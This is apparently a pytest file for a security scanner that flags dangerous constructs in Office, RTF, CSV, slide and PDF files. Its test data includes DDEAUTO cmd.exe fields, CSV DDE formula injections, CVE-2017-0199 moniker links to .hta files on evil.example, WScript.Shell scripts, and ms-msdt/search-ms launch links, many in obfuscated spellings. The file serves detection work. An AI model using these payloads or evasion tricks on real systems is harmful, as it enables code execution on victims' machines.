"""One attack in all the spellings that programs read alike: spaces, capitals, prefixes, other names of the same."""

from __future__ import annotations

import struct
from collections.abc import Callable

import pytest

from bridge.service.analysis.content import link_address
from bridge.service.analysis.content.office_attacks import DDE, DDE_LINK, is_remote, tag_of_field
from tests.long_cases import few
from tests.processor_time import fair_cpu_s
from tests.service.service_kit import zipped
from tests.service.test_service_document_attacks import onenote, rtf_object, score
from tests.service.test_service_documents import MACRO, ole, relations, tags, vba

DDE_PROGRAM = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '


def old_document(text: bytes) -> bytes:
    return ole({"WordDocument": b"\xec\xa5" + bytes(510) + text + bytes(4000)})


@pytest.mark.parametrize("codec", ["utf-16-le", "cp1252"])
@pytest.mark.parametrize(
    "before", [" ", "  ", " " * 10, " " * 5000, "\t ", ' "', "\xa0", "\r ", " \x01", "\x13 QUOTE \x14 \x15 "]
)
def test_dde_in_an_old_document_was_not_seen_behind_spaces(before: str, codec: str) -> None:
    document = old_document(f"\x13{before}{DDE_PROGRAM}\x14!\x15".encode(codec))
    assert tags(document, "a.doc") == {"office:dde"}


@pytest.mark.parametrize("before", ["\u2003", "\u200b", "\u3000"])
def test_dde_in_an_old_document_was_not_seen_behind_other_spaces(before: str) -> None:
    document = old_document(f"\x13{before}{DDE_PROGRAM}\x14!\x15".encode("utf-16-le"))
    assert tags(document, "a.doc") == {"office:dde"}


def test_a_program_after_much_space_in_an_old_document_was_not_seen() -> None:
    text = "\x13 DDE Excel" + " " * 5000 + '"..\\\\..\\\\cmd.exe" \x14!\x15'
    assert tags(old_document(text.encode("utf-16-le")), "a.doc") == {"office:dde"}


@pytest.mark.parametrize("codec", ["utf-16-le", "cp1252"])
@pytest.mark.parametrize(
    "text",
    [
        "\x13 PAGE \x147\x15 DDE is an old way to exchange data",
        "\x13 HYPERLINK \"https://a.example\" \x14DDE cmd\x15",
        "DDEAUTO cmd.exe",
        "\x13 DDEX cmd.exe \x14x\x15",
    ],
)  # fmt: skip
def test_an_old_document_about_dde_has_no_tag(text: str, codec: str) -> None:
    assert not {tag for tag in tags(old_document(text.encode(codec)), "a.doc") if tag.startswith("office:")}


NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def code(text: str, name: str = "instrText") -> str:
    return f'<w:r><w:{name} xml:space="preserve">{text}</w:{name}></w:r>'


def document(*runs: str) -> bytes:
    body = f"<w:body><w:p>{''.join(runs)}</w:p></w:body>"
    part = f'<?xml version="1.0"?><w:document xmlns:w="{NAMESPACE}">{body}</w:document>'
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", part.encode()))


@pytest.mark.parametrize("before", [" " * 99, " " * 100, " " * 5000, "\xa0", "\u2003", "\u200b", "\t\n", "<w:tab/>"])
def test_dde_in_a_document_was_not_seen_behind_spaces(before: str) -> None:
    assert tags(document(BEGIN, code(before + DDE_PROGRAM), END), "a.docx") == {"office:dde"}


PAGE = (BEGIN, code(" PAGE "), SEPARATE, END)
SPLIT = (code("<![CDATA[ DD]]>"), code("EAUTO cmd"))


@pytest.mark.parametrize(
    "runs",
    [
        (*PAGE, BEGIN, *SPLIT, END),
        (BEGIN, *PAGE, code(DDE_PROGRAM), END),
        (BEGIN, *PAGE, *SPLIT, END),
        (BEGIN, code("PAGE", "delInstrText"), code(DDE_PROGRAM), END),
        (BEGIN, code(" DDE Excel "), *PAGE, code('"..\\\\..\\\\cmd.exe"'), END),
        ("<w:fldSimple w:instr=' PAGE '/>", f"<w:fldSimple w:instr='{DDE_PROGRAM}'/>"),
        ("<w:fldSimple w:instr=' PAGE '/>", f"<w:fldSimple w:x='>' w:instr='{DDE_PROGRAM}'/>"),
    ],
)
def test_dde_in_a_document_was_not_seen_behind_another_field(runs: tuple[str, ...]) -> None:
    assert "office:dde" in tags(document(*runs), "a.docx")


@pytest.mark.parametrize(
    "runs",
    [
        (BEGIN, code(' HYPERLINK "https://www.dde.example/" dde cmd'), SEPARATE, END),
        (BEGIN, code(' INCLUDETEXT "'), *PAGE, code('DDE cmd.docx"'), END),
    ],
)
def test_a_document_with_the_word_dde_in_a_field_has_no_tag(runs: tuple[str, ...]) -> None:
    assert not {tag for tag in tags(document(*runs), "a.docx") if tag.startswith("office:")}


def test_what_follows_dde_was_read_up_to_a_limit() -> None:
    assert tag_of_field("DDE Excel" + " " * 5000 + "..\\cmd.exe") == DDE
    assert tag_of_field("DDE Excel" + " " * 5000 + "book.xlsx") == DDE_LINK


QUERY = "cmd|'/C calc'!A0"


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize(
    "cell",
    [
        "=" + "1*" * 300 + QUERY,
        "=SUM(" + "A1*" * 3000 + QUERY + ")",
        "=cmd|" + " " * 12 + "'/C calc'!A0",
        " " * 12 + "=" + QUERY,
        " " * 5000 + "=" + QUERY,
        "\xa0=" + QUERY,
        "=cmd" + " " * 600 + "|'/C calc'!A0",
        "=\tcmd|'/C calc'!A0",
        "=cmd|'/C calc" + " " * 600 + "'!A0",
        "=cmd|'/C calc ''x'' '!A0",
        "='cmd'|'/C calc'!A0",
        "\"=1*\r\ncmd|'/C calc'!A0\"",
        '"=1*""x""\r\n\r\ncmd|\'/C calc\'!A0"',
        '"=1*\r\ncmd|""/C calc""!A0"',
        "\"=cmd|'/C\r\ncalc'!A0\"",
    ],
)
def test_dde_in_a_table_was_not_seen_behind_spaces_or_a_long_formula(cell: str, codec: str) -> None:
    assert tags(f"a,b\r\n{cell},x\r\n".encode(codec), "a.csv") == {"office:dde"}
    assert tags(f"{cell},x\r\n".encode(codec), "a.csv") == {"office:dde"}


def test_dde_in_a_table_was_not_seen_behind_a_separator_of_its_own() -> None:
    assert tags(f"sep=#\r\na#={QUERY}".encode(), "a.csv") == {"office:dde"}


@pytest.mark.parametrize(
    "table",
    [
        f"a,b\r\n=1+2,x\r\nrun {QUERY}\r\n",
        f'"=1+2",x\r\n"run\r\n{QUERY}"\r\n',
        f'"a ""=1+2"" b\r\n{QUERY}"\r\n',
    ],
)
def test_a_table_that_only_names_a_query_has_no_tag(table: str) -> None:
    assert not tags(table.encode(), "a.csv")


def test_an_honest_table_of_programs_stays_below_the_quarantine() -> None:
    assert score(b"name|note\r\nwinblp|-1!\r\n=winblp|bbk!'IBM'\r\n", "a.csv") <= 6


# Name, beginning, piece and count.
COSTLY = {
    "the name of a field": ("word/document.xml", b"<x>", b"instrText", 3_000_000),
    "the beginning of a field": ("word/document.xml", b"<x>", b"<w:instrText ", 2_000_000),
    "the marks of a field": ("word/document.xml", b"<x><w:instrText/>", b"<w:fldChar ", 2_500_000),
    "brackets": ("word/document.xml", b"<instrText ddeLink Relationship", b"<", 28_000_000),
    "spaces in a field": ("word/document.xml", b"<x><w:instrText>", b" ", 28_000_000),
    "the beginning of a relation": ("a.rels", b"<x>", b"<Relationship ", 2_000_000),
    "queries of a table": ("a.csv", b"=", b"a|b!", 6_000_000),
    "lines of a table": ("a.csv", b"=!", b"|'", 12_000_000),
}


@pytest.mark.parametrize("kind", few(COSTLY, 1))
def test_a_small_document_kept_a_process_busy(kind: str) -> None:
    """900 bytes took eight seconds: each name of a field was followed by 500 characters that were looked at."""
    name, begin, piece, count = COSTLY[kind]
    content = zipped(("a.zip", zipped((name, begin + piece * count))))
    assert fair_cpu_s(lambda: tags(content, "a.zip")) < 4, "one second on a quiet machine"


@pytest.mark.parametrize("piece", few([b"\x13", b"\x13 DDE \x14\x15", b"\x13 ", b"\x13DD", b"\x13 \x14\x15"], 1))
def test_an_old_document_of_fields_takes_little_time(piece: bytes) -> None:
    content = zipped(("a.doc", old_document(piece * (28_000_000 // len(piece)))))
    assert fair_cpu_s(lambda: tags(content, "a.zip")) < 4, "one second on a quiet machine"


LINKS = [
    *("HTTPS://evil.example/x", "Https://evil.example/x", "https:\\\\evil.example\\x", "hTTp:/evil.example/x"),
    *("FTP://evil.example/x", "file://evil.example/x", "SMB://evil.example/x", "WWW.evil.example"),
]


@pytest.mark.parametrize("codec", ["utf-16-le", "cp1252"])
@pytest.mark.parametrize("link", LINKS)
def test_links_in_capitals_were_not_found(link: str, codec: str) -> None:
    host = "host:www.evil.example" if link.startswith("WWW") else "host:evil.example"
    text = f'\x13 HYPERLINK "{link}" \x14click\x15'.encode(codec)
    assert tags(old_document(text), "a.doc") == {host}
    assert tags(onenote("a.txt", b"x") + link.encode(codec) + bytes(9), "a.one") >= {host}
    assert tags(zipped(("xl/worksheets/sheet1.bin", bytes(9) + link.encode(codec) + bytes(9))), "a.xlsb") == {host}
    mail_text = "__substg1.0_1000001F" if codec == "utf-16-le" else "__substg1.0_1000001E"
    assert tags(ole({mail_text: f"see {link} today".encode(codec)}), "a.msg") == {host}


def test_links_in_capitals_in_a_macro_were_not_found() -> None:
    source = MACRO.replace(b"https://a.example/x", b"HTTPS:\\\\evil.example/x")
    assert source != MACRO
    assert "host:evil.example" in tags(ole({"Module1": vba(source)}), "a.doc")


@pytest.mark.parametrize(
    ("host", "codecs"),
    [
        ("\u00e9vil.example", ("utf-16-le", "utf-8", "cp1252")),
        ("b\u00fccher.example", ("utf-16-le", "utf-8", "cp1252")),
        ("evil\u3002example", ("utf-16-le", "utf-8")),
        ("\u4f8b\u3048.example", ("utf-16-le", "utf-8")),
    ],
)
def test_links_to_hosts_with_other_letters_were_not_found(host: str, codecs: tuple[str, ...]) -> None:
    for codec in codecs:
        text = f'\x13 HYPERLINK "https://{host}/x" \x14click\x15'.encode(codec)
        assert f"host:{link_address.host_of(host)}" in tags(old_document(text), "a.doc")


@pytest.mark.parametrize("after", [b"\x25\0\x01H\0e\0l\0l\0o\0", b"\xe9\xe8\xff", b"\0\x14", b"\0\0\xff\xfe"])
@pytest.mark.parametrize("codec", ["utf-16-le", "cp1252"])
def test_what_follows_a_link_is_not_a_part_of_its_host(after: bytes, codec: str) -> None:
    text = "https://good.example/".encode(codec) + after
    assert tags(old_document(text), "a.doc") == {"host:good.example"}


def moniker(address: str) -> bytes:
    text = f"{address}\0".encode("utf-16-le")
    head = b"\x01\0\0\x02\x09\0\0\0\x01\0\0\0" + bytes(8) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    return ole({"\x01Ole": head + struct.pack("<I", len(text)) + text})


@pytest.mark.parametrize(
    "address",
    [
        *("http://evil.example/x.hta", "HTTP://evil.example/x.hta", "hTTp://evil.example/x.hta"),
        *("http:\\\\evil.example\\x.hta", "http:/evil.example/x.hta", "http:evil.example/x.hta"),
        *("ftp://evil.example/x.hta", "file://evil.example/x.hta", "\\\\evil.example\\s\\x.hta"),
        *("http://evil\u3002example/x.hta", "ht\ntp://evil.example/x.hta", " http://evil.example"),
    ],
)
def test_an_object_that_is_loaded_was_not_seen_with_another_spelling_of_its_address(address: str) -> None:
    """CVE-2017-0199."""
    assert "office:exploit" in tags(moniker(address), "a.doc")
    assert "office:exploit" in tags(rtf_object(b"OLE2Link", moniker(address)), "a.rtf")


@pytest.mark.parametrize("address", ["file:///C:/data/book.xlsx", "HTTP://intranet/book.xlsx", "C:\\data\\book.xlsx"])
def test_an_object_of_the_own_network_is_no_exploit(address: str) -> None:
    assert "office:exploit" not in tags(moniker(address), "a.doc")


SCRIPT = b"var s=new ActiveXObject('WScript.Shell');s.Run('calc');"


def packaged(label: bytes, path: bytes, temporary: bytes, *wide: str) -> bytes:
    data = b"\x02\0" + label + b"\0" + path + b"\0\0\0\x03\0" + struct.pack("<I", len(temporary) + 1) + temporary
    data += b"\0" + struct.pack("<I", len(SCRIPT)) + SCRIPT
    data += b"".join(struct.pack("<I", len(name)) + name.encode("utf-16-le") for name in wide)
    return struct.pack("<I", len(data)) + data


TEXT = (b"a.txt", b"C:\\a.txt", b"C:\\Temp\\a.txt")
PACKAGES = {
    "label": packaged(b"a.js", *TEXT[1:]),
    "path": packaged(b"a.txt", b"C:\\a.js", TEXT[2]),
    "temporary file": packaged(*TEXT[:2], b"C:\\Temp\\a.js"),
    "temporary file, wide": packaged(*TEXT, "C:\\Temp\\a.js", "a.txt", "C:\\a.txt"),
    "label, wide": packaged(*TEXT, "C:\\Temp\\a.txt", "a.js", "C:\\a.txt"),
    "path, wide": packaged(*TEXT, "C:\\Temp\\a.txt", "a.txt", "C:\\a.js\0"),
}


@pytest.mark.parametrize("kind", PACKAGES)
def test_some_names_of_a_packaged_file_were_not_looked_at(kind: str) -> None:
    assert "mime:executable" in tags(ole({"\x01Ole10Native": PACKAGES[kind]}), "a.doc")
    assert "mime:executable" in tags(rtf_object(b"Package", PACKAGES[kind][4:]), "a.rtf")


def test_a_packaged_text_has_no_other_tag() -> None:
    wide = ("C:\\Temp\\a.txt", "a.txt", "C:\\a.txt")
    assert tags(ole({"\x01Ole10Native": packaged(*TEXT)}), "a.doc") == {"office:embedded-file"}
    assert tags(ole({"\x01Ole10Native": packaged(*TEXT, *wide)}), "a.doc") == {"office:embedded-file"}
    cut = packaged(*TEXT, *wide)[:-7]
    assert tags(ole({"\x01Ole10Native": cut}), "a.doc") == {"office:embedded-file"}


def slide(action: str, target: str) -> bytes:
    part = f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:hlinkMouseOver r:id="r" action="{action}"/></p:sld>'
    return zipped(
        ("[Content_Types].xml", b"<Types/>"),
        ("ppt/slides/slide1.xml", part.encode()),
        ("ppt/slides/_rels/slide1.xml.rels", relations("hyperlink", target)),
    )


@pytest.mark.parametrize("action", ["ppaction://program", "pp&#97;ction://Program", " ppaction://program"])
def test_an_action_that_starts_a_program_had_no_tag(action: str) -> None:
    assert "office:launch" in tags(slide(action, "tool"), "a.ppsx")
    assert score(slide(action, "tool"), "a.ppsx") >= 8


@pytest.mark.parametrize(
    "target",
    [
        *("cmd.exe%20/c%20powershell%20-c%20calc", "powershell%20-c%20calc", "C:\\Windows\\System32\\mshta.exe"),
        *("file:///C:\\Windows\\System32\\cmd.exe", "file:///\\\\evil.example\\s\\a.exe"),
        "\\\\evil.example@SSL\\s\\a.lnk",
        *("search-ms:query=a&amp;crumb=location:\\\\evil.example\\s", "ms-msdt:/id PCWDiagnostic", "MS-MSDT:/id x"),
        "file://203.0.113.7/s/a.hta",
    ],
)  # fmt: skip
def test_a_link_that_starts_a_program_had_no_tag(target: str) -> None:
    assert "office:launch" in tags(slide("", target), "a.pptx")
    runs = (BEGIN, code(f' HYPERLINK "{target}" '), SEPARATE, END)
    assert "office:launch" in tags(document(*runs), "a.docx")


def drawn(*records: tuple[int, bytes]) -> bytes:
    """A presentation with these records (MS-PPT 2.3.1)."""
    packed = (struct.pack("<HHI", 0, kind, len(data)) + data for kind, data in records)
    return ole({"PowerPoint Document": b"".join(packed)})


def with_link(target: str) -> dict[str, bytes]:
    """Documents in which this is the target of a link."""
    wide = target.encode("utf-16-le")
    record = bytes(8) + bytes(16) + struct.pack("<III", 2, 3, len(wide)) + wide
    escaped = target.replace("\\", "\\\\")
    return {
        "a.rtf": b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\o "read this" "%b"}}}' % escaped.encode(),
        "a.doc": ole({"WordDocument": b'\xec\xa5 \x13 HYPERLINK "%b" \x14x\x15' % target.encode()}),
        "a.xls": ole({"Workbook": struct.pack("<HH", 0x1B8, len(record)) + record}),
        "a.ppt": drawn((0xFBA, wide)),
        "a.odt": zipped(("content.xml", b'<a xmlns:x="x" x:href="%b"/>' % target.replace("&", "&amp;").encode())),
        "a.pdf": b"%%PDF-1.4\n1 0 obj\n<</S/URI/URI(%b)>>\nendobj\n" % escaped.encode(),
    }


@pytest.mark.parametrize(
    "target",
    [
        *("ms-msdt:/id PCWDiagnostic", "search-ms:query=a&crumb=location:\\\\evil.example\\s"),
        *("file://evil.example/s/a.exe", "C:\\Windows\\System32\\mshta.exe"),
    ],
)
@pytest.mark.parametrize("name", list(with_link("")))
def test_a_link_that_starts_a_program_had_no_tag_in_other_documents(name: str, target: str) -> None:
    assert {"office:launch", "pdf:launch"} & tags(with_link(target)[name], name)


@pytest.mark.parametrize("name", list(with_link("")))
@pytest.mark.parametrize("target", ["https://evil.example/a.exe", "file:///C:\\docs\\plan.docx", "mailto:a@b.example"])
def test_an_ordinary_link_has_no_tag_in_other_documents(name: str, target: str) -> None:
    assert not {"office:launch", "pdf:launch"} & tags(with_link(target)[name], name)


def test_an_action_in_an_old_presentation_that_starts_a_program_had_no_tag() -> None:
    for action, is_found in ((2, True), (4, False)):  # MS-PPT 2.6.1: a program, a link
        content = drawn((0xFF3, struct.pack("<IIB7x", 0, 1, action)))
        assert ("office:launch" in tags(content, "a.ppt")) == is_found


@pytest.mark.parametrize(
    "target",
    [
        *("https://evil.example/a.exe", "mailto:cmd.exe@evil.example", "file:///C:\\docs\\control\\plan.docx"),
        *("file:///\\\\fileserver\\tools\\setup.exe", "file://evil.com", "..\\cmd\\readme.txt", "#cmd"),
        *("javascript:void(0)", "file:///D:/explorer", "powershell-guide.docx", "tel:123", "slide2.xml"),
    ],
)
def test_an_ordinary_link_has_no_tag(target: str) -> None:
    for action in ("", "ppaction://hlinksldjump", "ppaction://hlinkfile", "ppaction://media"):
        assert "office:launch" not in tags(slide(action, target), "a.pptx")
    runs = (BEGIN, code(f' HYPERLINK "{target}" '), SEPARATE, END)
    assert "office:launch" not in tags(document(*runs), "a.docx")


@pytest.mark.parametrize(
    ("target", "is_outside"),
    [
        ("http://evil\u3002example/a.dotm", True),
        ("ht\ntps://evil.example/a.dotm", True),
        ("\t https://evil.example/a.dotm", True),
        ("http:" + "/" * 12 + "evil.example/a.dotm", True),
        ("HTTP:\\\\evil.example\\a.dotm", True),
        ("http:evil.example/a.dotm", True),
        ("http://evil%2eexample/a.dotm", True),
        ("http://0xcb007107/a.dotm", True),
        ("http://intranet/x?url:http://evil.example", False),
        ("http://[fd00::1]/a.dotm", False),
        ("http://[2001:db8::1]/a.dotm", True),
        ("http://0xc0a80101/a.dotm", False),
        ("file://C:/t.dotm", False),
        ("file://c|/t.dotm", False),
        ("C:\\t.dotm", False),
        ("\\\\dc01\\netlogon\\t.dotm", False),
        ("t.dotm", False),
        ("", False),
    ],
)
def test_an_address_was_read_in_another_way_than_links_are(target: str, is_outside: bool) -> None:
    assert is_remote(target) is is_outside


def interface(macro: str) -> bytes:
    part = f'<customUI xmlns="u" {macro}><ribbon supertip="see https://good.example!"/></customUI>'
    return zipped(("[Content_Types].xml", b"<Types/>"), ("customUI/customUI.xml", part.encode()))


@pytest.mark.parametrize(
    "macro",
    [
        'onLoad="https://evil.example/a.dotm!M.x"',
        'onLoad="\\\\evil.example\\s\\a.dotm!M.x"',
        '><button onAction="https://evil.example/a.dotm!M.x"/><button',
    ],
)
def test_a_macro_from_elsewhere_in_the_user_interface_had_no_tag(macro: str) -> None:
    assert "office:remote-template" in tags(interface(macro), "a.docx")


def test_the_host_of_a_macro_in_the_user_interface_was_not_found() -> None:
    assert tags(interface('onLoad="https://evil.example/a.dotm!M.x"'), "a.docx") >= {"host:evil.example"}


@pytest.mark.parametrize("macro", ['onLoad="M.x"', 'onLoad="C:\\a.dotm!M.x"', 'onLoad="\\\\server\\s\\a.dotm!M.x"'])
def test_a_user_interface_of_ones_own_has_no_tag(macro: str) -> None:
    assert "office:remote-template" not in tags(interface(macro), "a.docx")


@pytest.mark.parametrize(
    "connection",
    [
        '<webPr url="https://evil.example/x"/>',
        '<dbPr connection="Provider=MSOLAP;Data Source=https://evil.example/x"/>',
    ],
)
def test_the_connections_of_a_workbook_were_not_looked_at(connection: str) -> None:
    part = f'<connections><connection id="1" refreshOnLoad="1">{connection}</connection></connections>'
    assert tags(zipped(("xl/connections.xml", part.encode())), "a.xlsx") == {"host:evil.example"}


COSTLY_ADDRESSES: dict[str, Callable[[], tuple[str, bytes]]] = {
    "values of a user interface": lambda: ("a.xml", b"<customUI>" + b"<b onA='' onB='' onC='' onD=''/>" * 800_000),
    "macros of a user interface": lambda: (
        "a.xml",
        b"<customUI>" + b"<b onA='//a' onB='/' onC='/' onD='/'/>" * 700_000,
    ),
    "escapes in a link": lambda: (
        "a.rels",
        b"<a><Relationship Type='/hyperlink' TargetMode='External' Target='" + b"%20" * 9_000_000 + b"'/>",
    ),
    "prefixes of a link": lambda: (
        "a.rels",
        b"<a><Relationship Type='/attachedTemplate' TargetMode='External' Target='" + b"url:" * 6_700_000 + b"'/>",
    ),
    "links in fields": lambda: (
        "word/document.xml",
        b"<x><w:instrText>" + b"HYPERLINK c " * 2_000_000 + b"</w:instrText>",
    ),
}


@pytest.mark.parametrize("kind", few(COSTLY_ADDRESSES, 1))
def test_many_addresses_take_little_time(kind: str) -> None:
    content = zipped(("a.zip", zipped(COSTLY_ADDRESSES[kind]())))
    assert fair_cpu_s(lambda: tags(content, "a.zip")) < 4, "one second on a quiet machine"
